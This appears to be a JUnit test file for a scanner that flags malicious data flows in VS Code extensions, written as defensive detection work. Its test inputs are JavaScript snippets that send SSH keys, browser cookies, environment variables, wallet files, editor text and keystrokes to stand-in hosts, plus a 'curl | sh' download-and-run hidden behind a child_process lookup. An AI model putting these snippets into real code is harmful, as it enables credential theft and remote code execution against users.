@@ -1,0 +1,121 @@
+package dev.vsxray.scanner.javascript.flow;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import org.junit.jupiter.api.Test;
+
+/** Data in lists of the editor, behind strung calls, in files where it is parked and in commands that take it along. */
+class ListsAndFilesTest {
+
+    @Test
+    void looksAtEachElementOfAListOfTheEditor() {
+        Analysis analysis = Analysis.ofActivate("""
+                const texts = vscode.window.visibleTextEditors.map(editor => editor.document.getText());
+                fetch('https://lists.example/t', { method: 'POST', body: JSON.stringify(texts) });
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("editor-document -> network-send");
+    }
+
+    @Test
+    void staysWithTheObjectWhenCallsAreStrungTogether() {
+        Analysis analysis = Analysis.ofActivate("""
+                https.request('https://chain.example/c', { method: 'POST' }).on('error', () => {}).end(JSON.stringify(process.env));
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("environment -> network-send");
+    }
+
+    @Test
+    void remembersWhatAFormHolds() {
+        Analysis analysis = Analysis.ofActivate("""
+                const form = new FormData();
+                form.append('key', new Blob([fs.readFileSync(os.homedir() + '/.ssh/id_rsa')]));
+                fetch('https://form.example/f', { method: 'POST', body: form });
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("ssh-credentials -> network-send");
+    }
+
+    @Test
+    void followsAFileThatIsCopiedBeforeItIsRead() {
+        Analysis analysis = Analysis.ofActivate("""
+                fs.copyFileSync(os.homedir() + '/.config/google-chrome/Default/Cookies', '/tmp/c');
+                fetch('https://copy.example/c', { method: 'POST', body: fs.readFileSync('/tmp/c') });
+                """);
+
+        assertThat(analysis.flowNames()).contains("browser-data -> network-send");
+    }
+
+    @Test
+    void doesNotMistakeAnotherFileForTheCopy() {
+        Analysis analysis = Analysis.ofActivate("""
+                fs.copyFileSync(os.homedir() + '/.config/google-chrome/Default/Cookies', '/tmp/c');
+                fetch('https://copy.example/c', { method: 'POST', body: fs.readFileSync('/tmp/other') });
+                """);
+
+        assertThat(analysis.flowNames()).doesNotContain("browser-data -> network-send");
+    }
+
+    @Test
+    void followsAnArchiveThatACommandMakes() {
+        Analysis analysis = Analysis.ofActivate("""
+                cp.execSync('tar czf /tmp/w.tgz .');
+                fetch('https://archive.example/a', { method: 'POST', body: fs.readFileSync('/tmp/w.tgz') });
+                """);
+
+        assertThat(analysis.flowNames()).contains("workspace-file -> network-send");
+    }
+
+    @Test
+    void followsAFileThatACommandSends() {
+        Analysis analysis = Analysis.ofActivate("""
+                vscode.workspace.onDidSaveTextDocument(document => {
+                  fs.writeFileSync('/tmp/x', document.getText());
+                  cp.execFile('curl', ['-s', '-F', 'file=@/tmp/x', 'https://form.example/u']);
+                });
+                """);
+
+        assertThat(analysis.flowNames()).contains("editor-document -> network-send");
+    }
+
+    @Test
+    void followsAPipelineToAProgramFile() {
+        Analysis analysis = Analysis.ofActivate("""
+                const { pipeline } = require('stream/promises');
+                https.get('https://files.example/p', response => pipeline(response, fs.createWriteStream('/tmp/p.exe')));
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("network-response -> executable-write");
+    }
+
+    @Test
+    void followsAFileThatIsSentByItsPath() {
+        Analysis analysis = Analysis.ofActivate("""
+                const client = new (require('basic-ftp').Client)();
+                client.access({ host: '192.0.2.5' });
+                client.uploadFrom(os.homedir() + '/.electrum/wallets/default_wallet', 'w');
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("wallet-data -> network-send");
+    }
+
+    @Test
+    void takesAMemberOfChildProcessThatIsChosenAtRunTimeForOneThatStartsPrograms() {
+        Analysis analysis = Analysis.ofActivate("""
+                const name = Object.keys(cp).find(key => key.length === 4);
+                cp[name]('curl -s https://get.example/x | sh');
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("network-response -> process-command");
+    }
+
+    @Test
+    void hearsKeysWhenTheCommandThatTypesIsTaken() {
+        Analysis analysis = Analysis.ofActivate("""
+                vscode.commands.registerCommand('type', key => fetch('https://keys.example/k', { method: 'POST', body: key.text }));
+                """);
+
+        assertThat(analysis.flowNames()).contains("keystrokes -> network-send");
+    }
+}
